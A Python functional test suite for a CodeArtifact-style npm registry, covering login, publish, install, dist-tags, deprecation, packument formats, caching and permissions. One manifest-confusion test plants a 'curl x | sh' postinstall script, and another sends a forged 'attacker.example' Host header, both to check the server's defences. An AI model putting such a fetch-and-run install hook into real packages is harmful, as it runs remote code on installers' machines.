"""The npm registry against a real server: the machine's npm through ``aws codeartifact login --tool npm``,
packuments and tarballs on the wire, publish checks, dist-tags, deprecation, the refused commands, and the
package API for npm packages."""

from __future__ import annotations

import gzip
import json
import socket
import time
import uuid
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from tests.functional.conftest import make_client
from tests.functional.npm_clients import (
    NpmRepo,
    new_npm_repo,
    publish_body,
    run_npm,
    tarball,
    write_package,
)
from tests.functional.server import RunningServer
from tests.functional.test_aws_cli import run_aws

ABBREVIATED = "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"


def _domain(ca: Any) -> str:
    domain = f"npm-{uuid.uuid4().hex[:8]}"
    ca.create_domain(domain=domain)
    return domain


@pytest.fixture
def repo(server: RunningServer) -> NpmRepo:
    ca = make_client(server)
    return new_npm_repo(ca, server, _domain(ca), "app")


def put(repo: NpmRepo, name: str, body: bytes, **headers: str) -> httpx.Response:
    return httpx.put(
        repo.endpoint + name,
        content=body,
        headers={**repo.headers, "Content-Type": "application/json", **headers},
        timeout=60,
    )


def get(repo: NpmRepo, path: str, **headers: str) -> httpx.Response:
    return httpx.get(repo.endpoint + path, headers={**repo.headers, **headers}, timeout=60)


def publish(repo: NpmRepo, name: str, version: str, **kw: Any) -> httpx.Response:
    escaped, body = publish_body(name, version, **kw)
    return put(repo, escaped, body)


# --- the real npm, logged in by the aws CLI -------------------------------------------------------------------


def test_aws_login_then_npm_publish_install_dist_tag_and_deprecate(
    server: RunningServer, repo: NpmRepo, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    r = run_aws(server, home, "codeartifact", "login", "--tool", "npm", "--domain", repo.domain, "--repository", "app")
    assert r.returncode == 0, r.stderr
    npmrc = (home / ".npmrc").read_text()
    assert f"registry={repo.endpoint}" in npmrc and ":_authToken=" in npmrc

    for name in ("@acme/ui", "plain-pkg"):
        for version in ("1.0.0", "2.0.0"):
            pkg = write_package(
                tmp_path / f"{name.replace('/', '_')}-{version}", name, version, description="kit", license="MIT"
            )
            r = run_npm(home, pkg, "publish")
            assert r.returncode == 0, r.stderr
            assert f"+ {name}@{version}" in r.stdout
    again = run_npm(home, tmp_path / "plain-pkg-2.0.0", "publish")
    assert again.returncode != 0
    assert "You cannot publish over the previously published versions: 2.0.0" in again.stderr

    r = run_npm(home, tmp_path, "dist-tag", "add", "@acme/ui@1.0.0", "beta")
    assert r.returncode == 0, r.stderr
    r = run_npm(home, tmp_path, "dist-tag", "ls", "@acme/ui")
    assert r.stdout.split("\n")[:2] == ["beta: 1.0.0", "latest: 2.0.0"], r.stdout
    r = run_npm(home, tmp_path, "deprecate", "@acme/ui@1.0.0", "use 2")
    assert r.returncode == 0, r.stderr

    app = tmp_path / "app"
    app.mkdir()
    (app / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0"}))
    r = run_npm(home, app, "install", "@acme/ui@beta", "plain-pkg")
    assert r.returncode == 0, r.stderr
    assert "deprecated @acme/ui@1.0.0: use 2" in r.stderr
    lock = json.loads((app / "package-lock.json").read_text())
    ui = lock["packages"]["node_modules/@acme/ui"]
    assert ui["version"] == "1.0.0" and ui["resolved"] == f"{repo.endpoint}@acme/ui/-/ui-1.0.0.tgz"
    assert ui["integrity"].startswith("sha512-")
    assert lock["packages"]["node_modules/plain-pkg"]["version"] == "2.0.0"
    assert (app / "node_modules/@acme/ui/package.json").exists()

    # npm ci from the lockfile, with a fresh cache: everything comes from Coffer
    r = run_npm(home, app, "ci", npm_config_cache=str(tmp_path / "fresh-cache"))
    assert r.returncode == 0, r.stderr

    r = run_npm(home, tmp_path, "deprecate", "@acme/ui@1.0.0", "")
    assert r.returncode == 0, r.stderr
    assert "deprecated" not in get(repo, "@acme%2fui", Accept="application/json").json()["versions"]["1.0.0"]
    r = run_npm(home, tmp_path, "dist-tag", "rm", "@acme/ui", "beta")
    assert r.returncode == 0, r.stderr
    assert get(repo, "-/package/@acme%2fui/dist-tags").json() == {"latest": "2.0.0"}


def test_scoped_login_with_namespace(server: RunningServer, repo: NpmRepo, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    args = ("codeartifact", "login", "--tool", "npm", "--domain", repo.domain, "--repository", "app")
    r = run_aws(server, home, *args, "--namespace", "acme")
    assert r.returncode == 0, r.stderr
    assert f"@acme:registry={repo.endpoint}" in (home / ".npmrc").read_text()
    assert publish(repo, "@acme/scoped", "1.0.0").status_code == 201
    app = tmp_path / "app"
    app.mkdir()
    (app / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0"}))
    r = run_npm(home, app, "install", "@acme/scoped")
    assert r.returncode == 0, r.stderr
    assert (app / "node_modules/@acme/scoped/index.js").exists()


# --- packuments on the wire ------------------------------------------------------------------------------------


def test_full_and_abbreviated_packuments(repo: NpmRepo) -> None:
    readme = "# Left pad\n\nPads.\n"
    deps = {"dependencies": {"@acme/base": "^1.0.0"}, "scripts": {"postinstall": "node x.js", "test": "t"}}
    assert (
        publish(repo, "left-pad", "1.0.0", readme=readme, description="pads", license="MIT", **deps).status_code == 201
    )
    assert publish(repo, "left-pad", "1.1.0-beta.1", tag="next", description="pads").status_code == 201

    full = get(repo, "left-pad", Accept="application/json")
    assert full.status_code == 200 and full.headers["content-type"].startswith("application/json")
    doc = full.json()
    assert doc["name"] == doc["_id"] == "left-pad"
    assert doc["dist-tags"] == {"latest": "1.0.0", "next": "1.1.0-beta.1"}
    assert set(doc["time"]) == {"created", "modified", "1.0.0", "1.1.0-beta.1"}
    assert doc["readme"] == readme and doc["description"] == "pads" and doc["license"] == "MIT"
    v1 = doc["versions"]["1.0.0"]
    assert v1["scripts"]["test"] == "t" and v1["_id"] == "left-pad@1.0.0"
    data = tarball("left-pad", "1.0.0", readme=readme, description="pads", license="MIT", **deps)
    assert v1["dist"]["tarball"] == repo.endpoint + "left-pad/-/left-pad-1.0.0.tgz"
    assert v1["dist"]["shasum"] == __import__("hashlib").sha1(data).hexdigest()

    abbreviated = get(repo, "left-pad", Accept=ABBREVIATED)
    assert abbreviated.headers["content-type"].startswith("application/vnd.npm.install-v1+json")
    small = abbreviated.json()
    assert set(small) == {"name", "modified", "dist-tags", "versions"}
    a1 = small["versions"]["1.0.0"]
    assert "scripts" not in a1 and "readme" not in a1 and a1["hasInstallScript"] is True
    assert a1["dependencies"] == {"@acme/base": "^1.0.0"} and a1["dist"] == v1["dist"]

    # ETag and 304, gzip when asked
    etag = abbreviated.headers["etag"]
    assert get(repo, "left-pad", Accept=ABBREVIATED, **{"If-None-Match": etag}).status_code == 304
    raw = httpx.get(
        repo.endpoint + "left-pad",
        headers={**repo.headers, "Accept": "application/json", "Accept-Encoding": "gzip"},
    )
    assert raw.headers.get("content-encoding") == "gzip" and raw.json() == doc

    tgz = get(repo, "left-pad/-/left-pad-1.0.0.tgz")
    assert tgz.status_code == 200 and tgz.content == data
    one = get(repo, "left-pad/next").json()
    assert one["version"] == "1.1.0-beta.1"
    assert get(repo, "left-pad/9.9.9").status_code == 404
    assert get(repo, "no-such-package").status_code == 404
    assert get(repo, "left-pad/-/left-pad-9.9.9.tgz").status_code == 404


def test_scoped_names_in_both_spellings(repo: NpmRepo) -> None:
    assert publish(repo, "@acme/both", "1.0.0").status_code == 201
    a = get(repo, "@acme%2fboth", Accept="application/json")
    b = get(repo, "@acme/both", Accept="application/json")
    assert a.status_code == b.status_code == 200 and a.json() == b.json()
    assert a.json()["versions"]["1.0.0"]["dist"]["tarball"] == repo.endpoint + "@acme/both/-/both-1.0.0.tgz"


# --- publish checks ------------------------------------------------------------------------------------------------


def test_publish_checks_name_version_integrity_and_tarball(repo: NpmRepo) -> None:
    escaped, body = publish_body("checked", "1.0.0")
    doc = json.loads(body)
    cases: list[tuple[str, dict[str, Any], str]] = []
    bad = json.loads(body)
    bad["versions"]["1.0.0"]["dist"]["integrity"] = "sha512-" + "A" * 86 + "=="
    cases.append(("checked", bad, "dist.integrity"))
    bad = json.loads(body)
    bad["versions"]["1.0.0"]["dist"]["shasum"] = "0" * 40
    cases.append(("checked", bad, "dist.shasum"))
    cases.append(("other-name", doc, "is not 'other-name'"))
    _, wrong = publish_body("checked", "1.0.0", data=tarball("checked", "2.0.0"))
    cases.append(("checked", json.loads(wrong), "package.json names checked@2.0.0"))
    bad = json.loads(body)
    bad["versions"] = {"1.0": bad["versions"]["1.0.0"]}
    cases.append(("checked", bad, "not a valid semver"))
    bad = json.loads(body)
    bad["_attachments"]["checked-1.0.0.tgz"]["data"] = "%%%"
    cases.append(("checked", bad, "not valid base64"))
    bad = json.loads(body)
    bad["_attachments"]["checked-1.0.0.tgz"]["length"] = 3
    cases.append(("checked", bad, "not the 3 its length says"))
    _, notar = publish_body("checked", "1.0.0", data=b"not a tarball")
    cases.append(("checked", json.loads(notar), "not an npm tarball"))
    for url_name, payload, message in cases:
        r = put(repo, url_name, json.dumps(payload).encode())
        assert r.status_code == 400, (message, r.text)
        assert message in r.json()["error"], r.json()
    assert put(repo, "checked", b"{not json").status_code == 400
    assert get(repo, "checked").status_code == 404  # nothing of those was stored
    assert put(repo, escaped, body).status_code == 201
    again = put(repo, escaped, body)
    assert again.status_code == 409
    assert again.json()["error"] == "You cannot publish over the previously published versions: 1.0.0."


def test_body_limit_is_enforced_before_reading(repo: NpmRepo) -> None:
    """A declared length over the limit is refused from the headers: the answer comes with no body sent."""
    parts = urlsplit(repo.endpoint)
    head = (
        f"PUT {parts.path}huge HTTP/1.1\r\nHost: {parts.netloc}\r\nAuthorization: Bearer {repo.token}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {10**13}\r\n\r\n"
    )
    with socket.create_connection((parts.hostname, parts.port), timeout=30) as sock:
        sock.sendall(head.encode())
        answer = b""
        while b"\r\n\r\n" not in answer or not answer.rstrip().endswith(b"}"):
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    status_line, _, rest = answer.partition(b"\r\n")
    assert status_line.startswith(b"HTTP/1.1 413"), answer
    assert b"connection: close" in rest.lower() and b"limit" in rest


def test_tokens_and_permissions(server: RunningServer, repo: NpmRepo) -> None:
    for headers in ({}, {"Authorization": "Bearer nope"}, {"Authorization": f"Bearer {repo.token}x"}):
        for method, path in (("GET", "left-pad"), ("PUT", "left-pad"), ("GET", "-/ping")):
            r = httpx.request(method, repo.endpoint + path, headers=headers, content=b"{}" if method == "PUT" else None)
            assert r.status_code == 401, (headers, method, path)
            assert r.headers["www-authenticate"].startswith("Bearer realm=")
            assert repo.token not in r.text and "error" in r.json()
    # a token of another domain is refused, not answered 404
    ca = make_client(server)
    other = new_npm_repo(ca, server, _domain(ca), "app")
    r = httpx.get(repo.endpoint + "left-pad", headers=other.headers)
    assert r.status_code == 401


def test_unsupported_commands_are_refused_at_once(repo: NpmRepo, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".npmrc").write_text(repo.npmrc())
    assert publish(repo, "left-pad", "1.0.0").status_code == 201
    for args, words in (
        (("whoami",), "npm whoami is not supported"),
        (("search", "x"), "npm search is not supported"),
        (("token", "list"), "npm token is not supported"),
        (("unpublish", "left-pad@1.0.0", "--force"), "npm unpublish is not supported"),
    ):
        (tmp_path / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0"}))
        (tmp_path / "package-lock.json").write_text(
            json.dumps({"name": "x", "lockfileVersion": 3, "packages": {"": {"name": "x", "version": "1.0.0"}}})
        )
        started = time.monotonic()
        r = run_npm(home, tmp_path, *args, timeout=60)
        assert r.returncode != 0
        assert words in r.stderr, (args, r.stderr)
        assert time.monotonic() - started < 20, args  # no retries, no hang
    ping = run_npm(home, tmp_path, "ping", npm_config_loglevel="notice")
    assert ping.returncode == 0 and "PONG" in ping.stderr + ping.stdout
    for method, path in (
        ("POST", "-/npm/v1/security/advisories/bulk"),
        ("POST", "-/v1/login"),
        ("PUT", "-/user/org.couchdb.user:alice"),
        ("GET", "-/npm/v1/hooks"),
        ("GET", "-/org/acme/user"),
    ):
        r = httpx.request(method, repo.endpoint + path, headers=repo.headers, content=b"{}")
        assert r.status_code == 404 and "not supported" in r.json()["error"], (method, path)


# --- the package API for npm ---------------------------------------------------------------------------------------


def test_package_api_for_npm(server: RunningServer, repo: NpmRepo) -> None:
    ca = make_client(server)
    fields = {
        "description": "A UI kit",
        "license": "Apache-2.0",
        "homepage": "https://example.com/ui",
        "repository": {"type": "git", "url": "git+https://example.com/ui.git"},
        "dependencies": {"react": "^18.0.0", "@acme/base": "1.x"},
        "devDependencies": {"jest": "29"},
        "peerDependencies": {"react-dom": ">=18"},
        "optionalDependencies": {"fsevents": "*"},
    }
    assert publish(repo, "@acme/kit", "1.0.0", readme="# Kit\n", **fields).status_code == 201
    assert publish(repo, "@acme/kit", "1.1.0").status_code == 201
    assert publish(repo, "plain", "0.1.0").status_code == 201
    common = {"domain": repo.domain, "repository": "app", "format": "npm"}
    kit = {**common, "namespace": "acme", "package": "kit"}

    listed = ca.list_packages(**common)["packages"]
    assert [(p.get("namespace"), p["package"]) for p in listed] == [(None, "plain"), ("acme", "kit")] or [
        (p.get("namespace"), p["package"]) for p in listed
    ] == [("acme", "kit"), (None, "plain")]
    assert [p["package"] for p in ca.list_packages(**common, namespace="acme")["packages"]] == ["kit"]
    described = ca.describe_package_version(**kit, packageVersion="1.0.0")["packageVersion"]
    assert described["summary"] == "A UI kit" and described["homePage"] == "https://example.com/ui"
    assert described["sourceCodeRepository"] == "git+https://example.com/ui.git"
    assert described["licenses"] == [{"name": "Apache-2.0"}] and described["namespace"] == "acme"
    assert ca.get_package_version_readme(**kit, packageVersion="1.0.0")["readme"] == "# Kit\n"
    assets = ca.list_package_version_assets(**kit, packageVersion="1.0.0")["assets"]
    assert [a["name"] for a in assets] == ["kit-1.0.0.tgz"]
    body = ca.get_package_version_asset(**kit, packageVersion="1.0.0", asset="kit-1.0.0.tgz")["asset"].read()
    assert body == get(repo, "@acme/kit/-/kit-1.0.0.tgz").content
    deps = ca.list_package_version_dependencies(**kit, packageVersion="1.0.0")["dependencies"]
    assert [(d.get("namespace"), d["package"], d["dependencyType"], d["versionRequirement"]) for d in deps] == [
        (None, "react", "regular", "^18.0.0"),
        ("acme", "base", "regular", "1.x"),
        (None, "jest", "dev", "29"),
        (None, "react-dom", "peer", ">=18"),
        (None, "fsevents", "optional", "*"),
    ]

    # Unlisted: gone from the packument, the tarball still downloads; Archived: neither
    ca.update_package_versions_status(**kit, versions=["1.1.0"], targetStatus="Unlisted")
    doc = get(repo, "@acme%2fkit", Accept="application/json").json()
    assert list(doc["versions"]) == ["1.0.0"] and doc["dist-tags"]["latest"] == "1.0.0"
    assert get(repo, "@acme/kit/-/kit-1.1.0.tgz").status_code == 200
    ca.update_package_versions_status(**kit, versions=["1.1.0"], targetStatus="Archived")
    assert get(repo, "@acme/kit/-/kit-1.1.0.tgz").status_code == 404
    ca.update_package_versions_status(**kit, versions=["1.1.0"], targetStatus="Published")
    assert get(repo, "@acme%2fkit", Accept=ABBREVIATED).json()["dist-tags"]["latest"] == "1.1.0"

    # copy into another repository, dispose, delete
    ca.create_repository(domain=repo.domain, repository="copy")
    copied = (
        ca.copy_package_versions(
            **{**kit, "repository": None}, sourceRepository="app", destinationRepository="copy", versions=["1.0.0"]
        )
        if False
        else ca.copy_package_versions(
            domain=repo.domain,
            sourceRepository="app",
            destinationRepository="copy",
            format="npm",
            namespace="acme",
            package="kit",
            versions=["1.0.0"],
        )
    )
    assert list(copied["successfulVersions"]) == ["1.0.0"]
    copy_repo = NpmRepo(repo.domain, "copy", repo.endpoint.replace("/app/", "/copy/"), repo.token, server)
    assert get(copy_repo, "@acme/kit/-/kit-1.0.0.tgz").content == body
    ca.dispose_package_versions(**kit, versions=["1.1.0"])
    assert get(repo, "@acme/kit/-/kit-1.1.0.tgz").status_code == 404
    ca.delete_package_versions(**kit, versions=["1.0.0", "1.1.0"])
    assert get(repo, "@acme%2fkit").status_code == 404
    # a deleted version's number cannot be published again with other bytes
    r = publish(repo, "@acme/kit", "1.0.0", description="changed")
    assert r.status_code == 409


def test_gzip_packument_round_trips(repo: NpmRepo) -> None:
    for i in range(30):
        assert publish(repo, "many-versions", f"1.0.{i}", description="x" * 200).status_code == 201
    r = httpx.get(
        repo.endpoint + "many-versions",
        headers={**repo.headers, "Accept": ABBREVIATED, "Accept-Encoding": "gzip"},
    )
    assert r.headers["content-encoding"] == "gzip"
    assert int(r.headers["content-length"]) < len(r.content)
    assert len(json.loads(gzip.decompress(gzip.compress(r.content)))["versions"]) == 30


def test_gzip_follows_q_values_and_has_its_own_etag(repo: NpmRepo) -> None:
    for i in range(5):
        assert publish(repo, "zipped", f"1.0.{i}", description="y" * 300).status_code == 201
    plain = get(repo, "zipped", Accept=ABBREVIATED, **{"Accept-Encoding": "gzip;q=0, identity"})
    assert "content-encoding" not in plain.headers
    zipped = httpx.get(
        repo.endpoint + "zipped", headers={**repo.headers, "Accept": ABBREVIATED, "Accept-Encoding": "br, gzip"}
    )
    assert zipped.headers["content-encoding"] == "gzip"
    assert zipped.headers["etag"] != plain.headers["etag"] and zipped.json() == plain.json()
    again = get(
        repo, "zipped", Accept=ABBREVIATED, **{"Accept-Encoding": "gzip", "If-None-Match": zipped.headers["etag"]}
    )
    assert again.status_code == 304
    # the identity ETag does not validate the gzip representation
    stale = get(
        repo, "zipped", Accept=ABBREVIATED, **{"Accept-Encoding": "gzip", "If-None-Match": plain.headers["etag"]}
    )
    assert stale.status_code == 200


def test_a_publish_with_a_refused_tag_stores_nothing(repo: NpmRepo) -> None:
    r = publish(repo, "tagged", "1.0.0", tag="1.2.3")
    assert r.status_code == 400 and "must not be a version" in r.json()["error"]
    assert get(repo, "tagged").status_code == 404
    assert publish(repo, "tagged", "1.0.0", tag="stable").status_code == 201
    nested = httpx.put(
        repo.endpoint + "-/package/tagged/dist-tags/x", content=b"[" * 50_000, headers=repo.headers, timeout=30
    )
    assert nested.status_code == 400


def test_the_packument_shows_what_the_tarball_installs(repo: NpmRepo) -> None:
    """Manifest confusion: dependencies and install scripts come from the tarball's own package.json."""
    data = tarball("confused", "1.0.0", dependencies={"evil": "1.0.0"}, scripts={"postinstall": "curl x | sh"})
    escaped, body = publish_body("confused", "1.0.0", data=data, dependencies={})
    assert put(repo, escaped, body).status_code == 201
    entry = get(repo, "confused", Accept=ABBREVIATED).json()["versions"]["1.0.0"]
    assert entry["dependencies"] == {"evil": "1.0.0"} and entry["hasInstallScript"] is True


def test_tarball_urls_follow_the_public_url(tmp_path: Path) -> None:
    from tests.functional.conftest import ACCOUNT
    from tests.functional.server import running_server

    with running_server(tmp_path / "c", "--account-id", ACCOUNT, "--public-url", "https://coffer.example.test") as srv:
        ca = make_client(srv)
        npm_repo = new_npm_repo(ca, srv, _domain(ca), "app")
        assert npm_repo.endpoint.startswith("https://coffer.example.test/npm/d/")
        local = NpmRepo(
            npm_repo.domain,
            "app",
            npm_repo.endpoint.replace("https://coffer.example.test", srv.url),
            npm_repo.token,
            srv,
        )
        assert publish(local, "pub", "1.0.0").status_code == 201
        for host in (None, "attacker.example:1"):
            headers = {"Accept": "application/json"} | ({"Host": host} if host else {})
            doc = get(local, "pub", **headers).json()
            assert doc["versions"]["1.0.0"]["dist"]["tarball"] == npm_repo.endpoint + "pub/-/pub-1.0.0.tgz"


def test_a_deprecation_based_on_a_stale_read_is_refused(repo: NpmRepo) -> None:
    """Two deprecations at once: the second, sent back with the _rev it read, would undo the first; it gets 409."""
    for version in ("1.0.0", "2.0.0"):
        assert publish(repo, "racy", version).status_code == 201
    first = get(repo, "racy?write=true", Accept="application/json").json()
    second = get(repo, "racy?write=true", Accept="application/json").json()
    assert first["_rev"] == second["_rev"]
    first["versions"]["1.0.0"]["deprecated"] = "use 2"
    assert put(repo, "racy", json.dumps(first).encode()).status_code == 200
    second["versions"]["2.0.0"]["deprecated"] = "use 3"
    stale = put(repo, "racy", json.dumps(second).encode())
    assert stale.status_code == 409 and "changed since it was read" in stale.json()["error"]
    doc = get(repo, "racy", Accept="application/json").json()
    assert doc["versions"]["1.0.0"]["deprecated"] == "use 2" and "deprecated" not in doc["versions"]["2.0.0"]
    assert doc["_rev"] != first["_rev"]
